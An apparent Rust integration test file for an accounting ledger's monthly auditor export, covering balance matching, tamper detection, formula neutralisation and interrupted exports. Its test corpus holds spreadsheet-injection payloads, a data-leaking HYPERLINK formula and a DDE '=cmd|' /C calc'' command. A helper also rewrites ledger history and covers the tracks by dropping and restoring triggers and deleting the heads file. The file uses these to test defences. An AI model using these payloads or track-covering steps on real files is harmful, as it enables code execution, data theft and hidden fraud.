//! The auditor's monthly export: on the demo ledger, for every organisation
//! and month, the exported trial balance is `jatebo balance`, hledger and
//! ledger read the journal with the same closing balances, and the workbook
//! reads back; tampering is caught and named; text that a spreadsheet would
//! run is neutralised; an interrupted export never looks complete.

mod common;

use std::collections::BTreeMap;
use std::path::{Path, PathBuf};
use std::process::Command;

use calamine::{Data, DataType, Reader, Xlsx, open_workbook};
use common::{Ledger, code, stdout};
use jatebo::domain::export::{ExportProblem, Manifest, restore};
use jatebo::domain::ledger::{LineInput, NewEntry, Side};
use jatebo::domain::money::Fcfa;
use jatebo::domain::period::Month;
use jatebo::export::{ExportOptions, Progress, export_month, verify_export};
use jatebo::service::{Actor, Books, OrgKind};
use jatebo::store::OpenMode;
use serde_json::Value;

const MONTHS: [&str; 6] = [
    "2026-06", "2026-07", "2026-08", "2026-09", "2026-10", "2026-11",
];
const ORGS: [&str; 3] = ["savon", "masques", "ton-sabali"];

fn auditor(books: &mut Books) -> Actor {
    books
        .login("NGO Auditor", "jatebo-demo")
        .expect("demo auditor")
}

fn export(books: &Books, actor: &Actor, org: &str, month: &str, dir: &Path, bom: bool) -> Manifest {
    let org = books.org(org).expect("org");
    export_month(
        books,
        actor,
        &org,
        Month::parse(month).expect("month"),
        dir,
        &ExportOptions { bom },
        &mut |_| {},
    )
    .unwrap_or_else(|e| panic!("export {} {month}: {e:?}", org.code))
}

/// The rows of a `;` CSV file (header first), BOM removed, cells restored.
fn csv_rows(path: &Path) -> Vec<Vec<String>> {
    let bytes = std::fs::read(path).expect("csv file");
    let bytes = bytes.strip_prefix(b"\xEF\xBB\xBF").unwrap_or(&bytes);
    let mut r = csv::ReaderBuilder::new()
        .delimiter(b';')
        .has_headers(false)
        .from_reader(bytes);
    r.records()
        .map(|rec| {
            rec.expect("CSV row")
                .iter()
                .map(|c| restore(c).to_string())
                .collect()
        })
        .collect()
}

fn int(s: &str) -> i64 {
    s.parse()
        .unwrap_or_else(|_| panic!("{s:?} is not a plain integer"))
}

/// Account → closing balance (debit − credit), non-zero only, from the
/// trial balance rows of `jatebo balance --json`.
fn closing_nets(rows: &Value) -> BTreeMap<String, i64> {
    rows.as_array()
        .expect("rows")
        .iter()
        .map(|r| {
            (
                r["account"].as_str().unwrap().to_string(),
                r["closing_debit"].as_i64().unwrap() - r["closing_credit"].as_i64().unwrap(),
            )
        })
        .filter(|(_, n)| *n != 0)
        .collect()
}

/// A demo ledger, each organisation-month exported into `root/org/month`.
struct Exported {
    ledger: Ledger,
    root: tempfile::TempDir,
}

impl Exported {
    fn new() -> Exported {
        let ledger = Ledger::demo();
        let root = tempfile::tempdir().expect("temp dir");
        let mut books = Books::open(&ledger.path, OpenMode::Existing).expect("open");
        let actor = auditor(&mut books);
        for org in ORGS {
            for month in MONTHS {
                let dir = root.path().join(org).join(month);
                export(&books, &actor, org, month, &dir, false);
            }
        }
        Exported { ledger, root }
    }

    fn dir(&self, org: &str, month: &str) -> PathBuf {
        self.root.path().join(org).join(month)
    }
}

#[test]
fn every_org_month_matches_jatebo_balance_and_verifies() {
    let x = Exported::new();
    let mut entries = 0;
    for org in ORGS {
        let mut prev: Option<PathBuf> = None;
        for month in MONTHS {
            let dir = x.dir(org, month);
            // The exported trial balance is what `jatebo balance` says.
            let v = x.ledger.json(&["--org", org, "balance", "--month", month]);
            let tb = &v[0];
            let rows = csv_rows(&dir.join("balance.csv"));
            let body = &rows[1..rows.len() - 1];
            let expected = tb["rows"].as_array().unwrap();
            assert_eq!(body.len(), expected.len(), "{org} {month}");
            for (got, want) in body.iter().zip(expected) {
                assert_eq!(got[0], want["account"].as_str().unwrap());
                assert_eq!(got[1], want["name"].as_str().unwrap());
                let cols = [
                    "opening_debit",
                    "opening_credit",
                    "debit",
                    "credit",
                    "closing_debit",
                    "closing_credit",
                ];
                for (i, c) in cols.iter().enumerate() {
                    assert_eq!(
                        int(&got[2 + i]),
                        want[c].as_i64().unwrap(),
                        "{org} {month} {} {c}",
                        got[0]
                    );
                }
            }
            let totals = rows.last().unwrap();
            assert_eq!(int(&totals[4]), tb["totals"]["debit"].as_i64().unwrap());
            assert_eq!(
                int(&totals[6]),
                tb["totals"]["closing_debit"].as_i64().unwrap()
            );
            // The journal CSV holds every line of the month's journal.
            let journal = x.ledger.json(&["--org", org, "journal", "--month", month]);
            let lines: usize = journal
                .as_array()
                .unwrap()
                .iter()
                .map(|e| e["lines"].as_array().unwrap().len())
                .sum();
            assert_eq!(csv_rows(&dir.join("journal.csv")).len() - 1, lines);
            entries += journal.as_array().unwrap().len();
            // The folder verifies on its own and against last month's.
            let check = verify_export(&dir, prev.as_deref()).expect("verify");
            assert!(check.ok(), "{org} {month}: {:?}", check.problems);
            prev = Some(dir);
        }
    }
    assert!(entries > 1000, "the demo exports {entries} entries");
}

fn which(tool: &str) -> PathBuf {
    let found = std::env::var_os("PATH").and_then(|paths| {
        std::env::split_paths(&paths)
            .map(|p| p.join(tool))
            .find(|p| p.is_file())
    });
    found.unwrap_or_else(|| {
        panic!(
            "{tool} is not installed: run .ci/setup (it installs hledger and ledger from \
             Debian's packages), then the tests again"
        )
    })
}

/// `hledger bal` of an exported journal, account → balance in XOF.
fn hledger_balances(hledger: &Path, journal: &Path) -> BTreeMap<String, i64> {
    let o = Command::new(hledger)
        .arg("-f")
        .arg(journal)
        .args(["bal", "--flat", "-N", "-O", "csv"])
        .output()
        .expect("run hledger");
    assert!(
        o.status.success(),
        "hledger: {}",
        String::from_utf8_lossy(&o.stderr)
    );
    let mut r = csv::Reader::from_reader(&o.stdout[..]);
    r.records()
        .map(|rec| {
            let rec = rec.expect("hledger csv");
            let amount = rec[1].trim().strip_suffix(" XOF").unwrap_or(&rec[1]);
            (rec[0].to_string(), int(amount))
        })
        .collect()
}

/// `ledger bal` of an exported journal, account → balance in XOF.
fn ledger_balances(ledger: &Path, journal: &Path) -> BTreeMap<String, i64> {
    let o = Command::new(ledger)
        .arg("-f")
        .arg(journal)
        .args([
            "bal",
            "--flat",
            "--no-total",
            "--balance-format",
            "%(account)\t%(quantity(display_total))\n",
        ])
        .output()
        .expect("run ledger");
    assert!(
        o.status.success(),
        "ledger: {}",
        String::from_utf8_lossy(&o.stderr)
    );
    String::from_utf8_lossy(&o.stdout)
        .lines()
        .filter(|l| !l.trim().is_empty())
        .map(|l| {
            let (a, n) = l.split_once('\t').expect("account\\tamount");
            (a.trim().to_string(), int(n.trim()))
        })
        .collect()
}

#[test]
fn hledger_and_ledger_give_the_closing_balances() {
    let hledger = which("hledger");
    let ledger = which("ledger");
    let x = Exported::new();
    for org in ORGS {
        for month in MONTHS {
            let v = x.ledger.json(&["--org", org, "balance", "--month", month]);
            let want = closing_nets(&v[0]["rows"]);
            assert!(!want.is_empty());
            let journal = x.dir(org, month).join("journal.hledger");
            assert_eq!(
                hledger_balances(&hledger, &journal),
                want,
                "hledger {org} {month}"
            );
            assert_eq!(
                ledger_balances(&ledger, &journal),
                want,
                "ledger {org} {month}"
            );
        }
    }
}

fn cell_text(d: &Data) -> String {
    match d {
        Data::String(s) => s.clone(),
        Data::Empty => String::new(),
        other => panic!("expected text, found {other:?}"),
    }
}

fn cell_int(d: &Data) -> i64 {
    match d {
        Data::Float(f) => {
            assert_eq!(f.fract(), 0.0);
            *f as i64
        }
        Data::Int(i) => *i,
        other => panic!("expected an amount, found {other:?}"),
    }
}

#[test]
fn workbook_reads_back_as_the_csv_files() {
    let x = Exported::new();
    let dir = x.dir("savon", "2026-10");
    let mut wb: Xlsx<_> = open_workbook(dir.join("livres.xlsx")).expect("open xlsx");
    assert_eq!(wb.sheet_names(), vec!["Journal", "Grand livre", "Balance"]);
    // Journal: same lines, amounts as numbers, dates as dates, totals.
    let journal = wb.worksheet_range("Journal").expect("sheet");
    let csv = csv_rows(&dir.join("journal.csv"));
    let rows: Vec<_> = journal.rows().collect();
    assert_eq!(rows.len(), csv.len() + 1, "header + lines + totals");
    for (i, (x, c)) in rows.iter().zip(&csv).enumerate().skip(1) {
        assert_eq!(cell_text(&x[0]), c[0], "row {i}");
        let (y, m, d, ..) = x[1].get_datetime().expect("a date cell").to_ymd_hms_milli();
        assert_eq!(format!("{y:04}-{m:02}-{d:02}"), c[1], "row {i}");
        assert_eq!(cell_text(&x[3]), c[3]);
        assert_eq!(cell_text(&x[5]), c[5]);
        assert_eq!(cell_int(&x[8]), int(&c[8]));
        assert_eq!(cell_int(&x[9]), int(&c[9]));
    }
    let total = rows.last().unwrap();
    let debit: i64 = csv[1..].iter().map(|c| int(&c[8])).sum();
    assert_eq!(cell_int(&total[8]), debit);
    assert_eq!(cell_int(&total[9]), debit);
    // The totals are formulas over the column.
    let formulas = wb.worksheet_formula("Journal").expect("formulas");
    let f = formulas
        .get_value((rows.len() as u32 - 1, 8))
        .expect("formula");
    assert_eq!(f, &format!("SUM(I2:I{})", rows.len() - 1));
    // Trial balance: every row and the totals.
    let tb = wb.worksheet_range("Balance").expect("sheet");
    let csv = csv_rows(&dir.join("balance.csv"));
    let rows: Vec<_> = tb.rows().collect();
    assert_eq!(rows.len(), csv.len());
    for (x, c) in rows.iter().zip(&csv).skip(1) {
        assert_eq!(cell_text(&x[1]), c[1]);
        for i in 2..8 {
            assert_eq!(cell_int(&x[i]), int(&c[i]));
        }
    }
    // General ledger: as many rows as the CSV file, the same balances.
    let gl = wb.worksheet_range("Grand livre").expect("sheet");
    let csv = csv_rows(&dir.join("grand-livre.csv"));
    assert_eq!(gl.rows().count(), csv.len());
    for (x, c) in gl.rows().zip(&csv).skip(1) {
        assert_eq!(cell_text(&x[0]), c[0]);
        assert_eq!(cell_int(&x[8]), int(&c[8]));
        assert_eq!(cell_int(&x[9]), int(&c[9]));
    }
}

// ---- tampering ------------------------------------------------------------------

fn copy_dir(from: &Path, to: &Path) {
    std::fs::create_dir_all(to).unwrap();
    for e in std::fs::read_dir(from).unwrap() {
        let e = e.unwrap();
        std::fs::copy(e.path(), to.join(e.file_name())).unwrap();
    }
}

fn problems(dir: &Path, prev: Option<&Path>) -> Vec<ExportProblem> {
    verify_export(dir, prev).expect("verify").problems
}

/// Rewrites the manifest's size and SHA-256 of `file` to match what is on
/// disk, as someone covering their tracks would.
fn reseal(dir: &Path, file: &str) {
    use sha2::{Digest, Sha256};
    let mpath = dir.join("manifest.json");
    let mut m: Manifest = serde_json::from_slice(&std::fs::read(&mpath).unwrap()).unwrap();
    let bytes = std::fs::read(dir.join(file)).unwrap();
    let f = m.files.iter_mut().find(|f| f.name == file).unwrap();
    f.bytes = bytes.len() as u64;
    f.sha256 = jatebo::domain::ledger::hex(&Sha256::digest(&bytes));
    std::fs::write(&mpath, serde_json::to_vec_pretty(&m).unwrap()).unwrap();
}

#[test]
fn tampering_is_caught_and_the_file_named() {
    let x = Exported::new();
    let good = x.dir("savon", "2026-10");
    let work = tempfile::tempdir().unwrap();
    let case = |name: &str| {
        let d = work.path().join(name);
        copy_dir(&good, &d);
        d
    };

    // One cell of the journal changed: 3400 → 3500.
    let d = case("cell");
    let p = d.join("journal.csv");
    let text = std::fs::read_to_string(&p).unwrap();
    let changed = text.replacen(";0;3400;", ";0;3500;", 1);
    assert_ne!(text, changed, "the demo has a 3 400 F sale line");
    std::fs::write(&p, changed).unwrap();
    let found = problems(&d, None);
    assert!(
        found.contains(&ExportProblem::FileHash {
            file: "journal.csv".into()
        }),
        "{found:?}"
    );
    // The same change with the manifest resealed: still caught, because the
    // journal no longer says what livres.json says.
    reseal(&d, "journal.csv");
    let found = problems(&d, None);
    assert!(
        matches!(&found[..], [ExportProblem::FileDiffers { file, line: 2 }] if file == "journal.csv"),
        "{found:?}"
    );

    // A row of the general ledger deleted.
    let d = case("row");
    let p = d.join("grand-livre.csv");
    let text = std::fs::read_to_string(&p).unwrap();
    let mut lines: Vec<&str> = text.split_inclusive('\n').collect();
    lines.remove(5);
    std::fs::write(&p, lines.concat()).unwrap();
    let found = problems(&d, None);
    assert!(
        found.iter().any(
            |f| matches!(f, ExportProblem::FileSize { file, .. } if file == "grand-livre.csv")
        ),
        "{found:?}"
    );
    assert!(
        found.iter().any(|f| matches!(f, ExportProblem::FileDiffers { file, line: 6 } if file == "grand-livre.csv")),
        "{found:?}"
    );

    // An amount changed in the JSON body, the manifest resealed: the entry's
    // hash no longer follows from its content.
    let d = case("json");
    let p = d.join("livres.json");
    let mut body: Value = serde_json::from_slice(&std::fs::read(&p).unwrap()).unwrap();
    let line = &mut body["entries"][0]["lines"][0]["amount"];
    *line = Value::from(line.as_i64().unwrap() + 100);
    let line = &mut body["entries"][0]["lines"][1]["amount"];
    *line = Value::from(line.as_i64().unwrap() + 100);
    std::fs::write(&p, serde_json::to_vec_pretty(&body).unwrap()).unwrap();
    reseal(&d, "livres.json");
    let found = problems(&d, None);
    let first = body["entries"][0]["number"].as_str().unwrap().to_string();
    assert!(
        found.iter().any(
            |f| matches!(f, ExportProblem::EntryHash { number } if number.to_string() == first)
        ),
        "{found:?}"
    );

    // The workbook changed.
    let d = case("xlsx");
    let p = d.join("livres.xlsx");
    let mut bytes = std::fs::read(&p).unwrap();
    let n = bytes.len();
    bytes[n / 2] ^= 0x55;
    std::fs::write(&p, bytes).unwrap();
    assert_eq!(
        problems(&d, None),
        vec![ExportProblem::FileHash {
            file: "livres.xlsx".into()
        }]
    );

    // No manifest: an export that did not finish.
    let d = case("nomanifest");
    std::fs::remove_file(d.join("manifest.json")).unwrap();
    assert_eq!(problems(&d, None), vec![ExportProblem::NoManifest]);

    // A file removed, and one added.
    let d = case("missing");
    std::fs::remove_file(d.join("chaine.csv")).unwrap();
    std::fs::write(d.join("notes.txt"), "ajouté").unwrap();
    let found = problems(&d, None);
    assert!(found.contains(&ExportProblem::FileMissing {
        file: "chaine.csv".into()
    }));
    assert!(found.contains(&ExportProblem::FileUnlisted {
        file: "notes.txt".into()
    }));

    // Untouched, it verifies.
    assert!(problems(&good, None).is_empty());
}

/// Rewrites an organisation's entry the way someone with a SQLite shell
/// would, then recomputes every hash after it so that the ledger is
/// consistent with itself again (and `jatebo verify` passes).
fn rewrite_history(path: &Path, org: &str, number: &str, memo: &str) {
    let books = Books::open(path, OpenMode::Existing).unwrap();
    let o = books.org(org).unwrap();
    let mut entries = Vec::new();
    books
        .store()
        .read()
        .for_each_entry(o.id, |e, _| entries.push(e))
        .unwrap();
    drop(books);
    let conn = rusqlite::Connection::open(path).unwrap();
    let triggers: Vec<(String, String)> = conn
        .prepare("SELECT name, sql FROM sqlite_master WHERE type = 'trigger'")
        .unwrap()
        .query_map([], |r| Ok((r.get(0)?, r.get(1)?)))
        .unwrap()
        .map(|r| r.unwrap())
        .collect();
    for (t, _) in &triggers {
        conn.execute_batch(&format!("DROP TRIGGER \"{t}\""))
            .unwrap();
    }
    let at = entries
        .iter()
        .position(|e| e.number.to_string() == number)
        .expect("entry");
    entries[at].memo = memo.to_string();
    let mut prev = entries[at].prev_hash.clone();
    for e in &mut entries[at..] {
        e.prev_hash = prev.clone();
        e.hash = e.compute_hash();
        conn.execute(
            "UPDATE entries SET memo = ?1, prev_hash = ?2, hash = ?3
             WHERE org_id = ?4 AND fiscal_year = ?5 AND seq = ?6",
            rusqlite::params![
                e.memo,
                e.prev_hash,
                e.hash,
                o.id,
                e.number.year,
                e.number.seq
            ],
        )
        .unwrap();
        prev = e.hash.clone();
    }
    conn.execute(
        "UPDATE orgs SET head_hash = ?1 WHERE id = ?2",
        rusqlite::params![prev, o.id],
    )
    .unwrap();
    conn.execute(
        "UPDATE period_closes SET head_hash = (SELECT hash FROM entries e
           WHERE e.org_id = period_closes.org_id AND e.chain_no = period_closes.head_chain)
         WHERE org_id = ?1",
        [o.id],
    )
    .unwrap();
    // And the guards put back, so nothing shows.
    for (_, sql) in &triggers {
        conn.execute_batch(sql).unwrap();
    }
}

#[test]
fn ledger_rewritten_between_two_exports_is_caught() {
    let l = Ledger::demo();
    let root = tempfile::tempdir().unwrap();
    let (sep, oct) = (root.path().join("sep"), root.path().join("oct"));
    {
        let mut books = Books::open(&l.path, OpenMode::Existing).unwrap();
        let actor = auditor(&mut books);
        export(&books, &actor, "savon", "2026-09", &sep, false);
    }
    // After the export, a September sale is rewritten, the chain recomputed
    // from it, the month closes' record of the chain head made to agree and
    // the guards put back: the ledger is consistent with itself again and
    // `jatebo verify` has nothing to say.
    let m: Manifest =
        serde_json::from_slice(&std::fs::read(sep.join("manifest.json")).unwrap()).unwrap();
    let head = m.chain.end.number.unwrap();
    let victim = format!("{}-{:06}", head.year, head.seq - 3);
    rewrite_history(&l.path, "savon", &victim, "Vente (réécrite)");
    // The heads file beside the ledger still knows the old tip of savon's
    // chain: verify catches the rewrite through it.
    let (status, v) = l.verify_json();
    assert_eq!(status, 3, "{v}");
    assert!(
        v["problems"]
            .as_array()
            .unwrap()
            .iter()
            .any(|p| p["finding"]["kind"] == "rewritten" && p["finding"]["org"] == "savon"),
        "{v}"
    );
    // Whoever rewrote the books deletes that file too: now the ledger is
    // consistent with itself and verify has nothing to say; only last
    // month's export can tell.
    std::fs::remove_file(common::sidecar(&l.path, ".heads")).unwrap();
    let (status, v) = l.verify_json();
    assert_eq!(status, 0, "the rewrite is consistent with itself: {v}");
    {
        let mut books = Books::open(&l.path, OpenMode::Existing).unwrap();
        let actor = auditor(&mut books);
        export(&books, &actor, "savon", "2026-10", &oct, false);
    }
    // Each folder is sound on its own; together they show the rewrite.
    assert!(problems(&oct, None).is_empty());
    assert_eq!(
        problems(&oct, Some(&sep)),
        vec![ExportProblem::ChainRewritten {
            position: m.chain.end.position,
            month: "2026-09".into()
        }]
    );
    // And the CLI says so, with exit status 3.
    let o = l.run(&[
        "verify-export",
        oct.to_str().unwrap(),
        sep.to_str().unwrap(),
    ]);
    assert_eq!(code(&o), 3, "{}", stdout(&o));
    assert!(stdout(&o).starts_with("ÉCHEC"), "{}", stdout(&o));
    assert!(
        stdout(&o).contains("réécrit depuis l'export de 2026-09"),
        "{}",
        stdout(&o)
    );
}

#[test]
fn a_broken_chain_is_not_exported() {
    let l = Ledger::demo();
    let books = Books::open(&l.path, OpenMode::Existing).unwrap();
    let org = books.org("masques").unwrap();
    drop(books);
    // A memo changed without recomputing the hashes.
    let conn = rusqlite::Connection::open(&l.path).unwrap();
    let triggers: Vec<String> = conn
        .prepare("SELECT name FROM sqlite_master WHERE type = 'trigger' AND tbl_name = 'entries'")
        .unwrap()
        .query_map([], |r| r.get(0))
        .unwrap()
        .map(|r| r.unwrap())
        .collect();
    for t in triggers {
        conn.execute_batch(&format!("DROP TRIGGER \"{t}\""))
            .unwrap();
    }
    let n = conn
        .execute(
            "UPDATE entries SET memo = 'modifié' WHERE org_id = ?1 AND date = (
               SELECT min(date) FROM entries WHERE org_id = ?1 AND date >= '2026-10-01')",
            [org.id],
        )
        .unwrap();
    assert!(n >= 1);
    drop(conn);
    let out = tempfile::tempdir().unwrap();
    let dir = out.path().join("oct");
    let o = l
        .command(&[
            "--org",
            "masques",
            "--user",
            "NGO Auditor",
            "export",
            "--month",
            "2026-10",
            "--out",
            dir.to_str().unwrap(),
        ])
        .env("JATEBO_PASSPHRASE", "jatebo-demo")
        .output()
        .unwrap();
    assert_eq!(code(&o), 1);
    let err = common::stderr(&o);
    assert!(err.contains("Export refusé, rien n'a été écrit"), "{err}");
    assert!(!dir.exists(), "nothing written");
}

// ---- text a spreadsheet would run --------------------------------------------

const CORPUS: [&str; 9] = [
    "=HYPERLINK(\"http://exemple.invalid/?q=\"&A1;\"Cliquez\")",
    "+1",
    "-2",
    "@SUM(A1:A9)",
    "\t=1+2",
    "\r=1+2",
    "\n=1+2",
    "Vente \";=1+2",
    "'=déjà protégé",
];

#[test]
fn formulas_in_names_and_memos_are_neutralised_and_read_back() {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("j.db");
    let mut books = Books::open(&path, OpenMode::CreateIfMissing).unwrap();
    let actor = Actor::new("=cmd|' /C calc'!A0").unwrap();
    let org = books
        .add_org(&actor, "inj", "=Coop \"injection\"", OrgKind::Coop)
        .unwrap();
    let mut stored = Vec::new();
    for (i, text) in CORPUS.iter().enumerate() {
        let number = format!("471{i}");
        books
            .add_account(&actor, &org, &number, text, None)
            .unwrap_or_else(|e| panic!("account {text:?}: {e:?}"));
        let entry = NewEntry {
            idem_key: format!("k{i}"),
            date: chrono::NaiveDate::from_ymd_opt(2026, 10, 1 + i as u32).unwrap(),
            doc_ref: text.to_string(),
            memo: text.to_string(),
            lines: vec![
                LineInput {
                    account: "5711".parse().unwrap(),
                    side: Side::Debit,
                    amount: Fcfa::new(100 + i as i64),
                    label: text.to_string(),
                },
                LineInput {
                    account: number.parse().unwrap(),
                    side: Side::Credit,
                    amount: Fcfa::new(100 + i as i64),
                    label: "-".into(),
                },
            ],
            source: None,
        };
        books.post(&actor, &org, entry).unwrap();
        let name = books
            .accounts(&org, jatebo::domain::Lang::Fr)
            .unwrap()
            .into_iter()
            .find(|a| a.number == number)
            .unwrap()
            .name;
        stored.push(name);
    }
    // What the ledger keeps (names are trimmed when cleaned; memos and
    // documents as posted).
    let journal = books.journal(&org, &Default::default()).unwrap();
    let out = dir.path().join("out");
    let org = books.org("inj").unwrap();
    export_month(
        &books,
        &actor,
        &org,
        Month::parse("2026-10").unwrap(),
        &out,
        &ExportOptions { bom: true },
        &mut |_| {},
    )
    .unwrap();
    let triggers = ['=', '+', '-', '@', '\t', '\r', '\n'];
    for file in [
        "journal.csv",
        "grand-livre.csv",
        "balance.csv",
        "chaine.csv",
    ] {
        let bytes = std::fs::read(out.join(file)).unwrap();
        assert!(bytes.starts_with(b"\xEF\xBB\xBF"), "{file}: BOM asked for");
        let mut r = csv::ReaderBuilder::new()
            .delimiter(b';')
            .has_headers(false)
            .from_reader(&bytes[3..]);
        for rec in r.records() {
            for cell in rec.unwrap().iter() {
                let runs = cell.starts_with(triggers) && cell.parse::<i64>().is_err();
                assert!(!runs, "{file}: a cell a spreadsheet would run: {cell:?}");
            }
        }
    }
    // Read back, the cells are the ledger's text exactly, amounts numbers.
    let rows = csv_rows(&out.join("journal.csv"));
    for (i, (text, e)) in stored.iter().zip(&journal).enumerate() {
        let e = &e.entry;
        let row = &rows[1 + 2 * i];
        assert_eq!(row[2], e.doc_ref, "document");
        assert_eq!(row[3], e.memo, "memo");
        assert_eq!(row[7], e.lines[0].label, "label");
        assert_eq!(row[13], "=cmd|' /C calc'!A0", "author");
        assert_eq!(int(&row[8]), 100 + i as i64);
        let credit = &rows[2 + 2 * i];
        assert_eq!(&credit[6], text, "account name");
        assert_eq!(credit[7], "-", "a lone minus sign is text, kept");
    }
    // The workbook keeps the exact text in string cells.
    let mut wb: Xlsx<_> = open_workbook(out.join("livres.xlsx")).unwrap();
    let j = wb.worksheet_range("Journal").unwrap();
    for (i, e) in journal.iter().enumerate() {
        assert_eq!(cell_text(j.get((1 + 2 * i, 3)).unwrap()), e.entry.memo);
        assert_eq!(cell_text(j.get((2 + 2 * i, 6)).unwrap()), stored[i]);
    }
    // The plain-text journal still reads in hledger.
    let o = Command::new(which("hledger"))
        .arg("-f")
        .arg(out.join("journal.hledger"))
        .args(["bal", "--flat", "-N", "-O", "csv"])
        .output()
        .unwrap();
    assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stderr));
    assert!(verify_export(&out, None).unwrap().ok());
}

// ---- an export cut short ---------------------------------------------------------

#[test]
fn an_interrupted_export_never_looks_complete() {
    let l = Ledger::demo();
    let mut books = Books::open(&l.path, OpenMode::Existing).unwrap();
    let actor = auditor(&mut books);
    let org = books.org("savon").unwrap();
    let root = tempfile::tempdir().unwrap();
    let mut seen = Vec::new();
    for stop in 1..=8u32 {
        let dir = root.path().join(format!("stop{stop}"));
        let r = std::panic::catch_unwind(std::panic::AssertUnwindSafe(|| {
            export_month(
                &books,
                &actor,
                &org,
                Month::parse("2026-10").unwrap(),
                &dir,
                &ExportOptions::default(),
                &mut |p: Progress| {
                    if p.step == stop {
                        panic!("cut at step {}", p.step);
                    }
                },
            )
        }));
        assert!(r.is_err(), "the export was cut at step {stop}");
        let check = verify_export(&dir, None).unwrap();
        assert_eq!(
            check.problems,
            vec![ExportProblem::NoManifest],
            "stop {stop}"
        );
        // No half file: every file present is whole (no `.part` left).
        let names: Vec<String> = std::fs::read_dir(&dir)
            .unwrap()
            .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
            .collect();
        assert!(names.iter().all(|n| !n.ends_with(".part")), "{names:?}");
        assert_eq!(names.len(), stop as usize - 1, "stop {stop}: {names:?}");
        seen.push(names.len());
        // The folder is not taken for a new export either.
        let again = export_month(
            &books,
            &actor,
            &org,
            Month::parse("2026-10").unwrap(),
            &dir,
            &ExportOptions::default(),
            &mut |_| {},
        );
        assert!(
            matches!(again, Err(jatebo::Error::ExportDirNotEmpty { .. }) if stop > 1) || stop == 1
        );
    }
    assert_eq!(seen, (0..8).collect::<Vec<_>>());
}

// ---- the command line --------------------------------------------------------------

#[test]
fn cli_export_and_verify_export() {
    let l = Ledger::demo();
    let root = tempfile::tempdir().unwrap();
    let dir = root.path().join("savon-2026-09");
    let d = dir.to_str().unwrap();
    let mut c = l.command(&[
        "--org",
        "savon",
        "--user",
        "Mariam Keïta",
        "export",
        "--month",
        "2026-09",
        "--out",
        d,
        "--bom",
    ]);
    let o = c.env("JATEBO_PASSPHRASE", "jatebo-demo").output().unwrap();
    assert_eq!(code(&o), 0, "{}", String::from_utf8_lossy(&o.stderr));
    let out = stdout(&o);
    assert!(
        out.starts_with("Export de savon pour 2026-09 écrit dans"),
        "{out}"
    );
    assert!(out.contains("journal.csv : "), "{out}");
    // September is closed: no warning about an open month.
    assert!(!out.contains("n'est pas clôturé"), "{out}");

    let ok = l.ok(&["verify-export", d]);
    assert!(
        ok.starts_with("OK — export savon 2026-09 intact : 8 fichiers vérifiés"),
        "{ok}"
    );
    let v = l.json(&["verify-export", d]);
    assert_eq!(v["ok"], true);
    assert_eq!(v["manifest"]["csv_bom"], true);
    assert_eq!(v["manifest"]["exported_by"], "Mariam Keïta");
    assert_eq!(v["manifest"]["period"]["closed"], true);

    // A second export into the same folder is refused.
    let mut c = l.command(&[
        "--org",
        "savon",
        "--user",
        "Mariam Keïta",
        "export",
        "--month",
        "2026-09",
        "--out",
        d,
    ]);
    let o = c.env("JATEBO_PASSPHRASE", "jatebo-demo").output().unwrap();
    assert_eq!(code(&o), 1);
    assert!(
        common::stderr(&o).contains("n'est pas vide"),
        "{}",
        common::stderr(&o)
    );

    // A facilitator of the savings group may not take the soap books away.
    let other = root.path().join("x");
    let mut c = l.command(&[
        "--org",
        "savon",
        "--user",
        "Fatoumata Diarra",
        "export",
        "--month",
        "2026-09",
        "--out",
        other.to_str().unwrap(),
    ]);
    let o = c.env("JATEBO_PASSPHRASE", "jatebo-demo").output().unwrap();
    assert_eq!(code(&o), 1, "{}", stdout(&o));
    assert!(!other.exists());

    // A changed cell: exit 3, and the verdict names the file.
    let p = dir.join("balance.csv");
    let text = std::fs::read_to_string(&p).unwrap();
    std::fs::write(&p, text.replacen("Totaux", "Totaus", 1)).unwrap();
    let o = l.run(&["verify-export", d]);
    assert_eq!(code(&o), 3);
    let out = stdout(&o);
    assert!(out.starts_with("ÉCHEC — 2 problèmes dans"), "{out}");
    assert!(
        out.contains("balance.csv : l'empreinte SHA-256 diffère du manifeste"),
        "{out}"
    );
    let v: Value = serde_json::from_slice(&l.run(&["--json", "verify-export", d]).stdout).unwrap();
    assert_eq!(v["ok"], false);
    assert_eq!(v["problems"][0]["code"], "xp-file-hash");
}
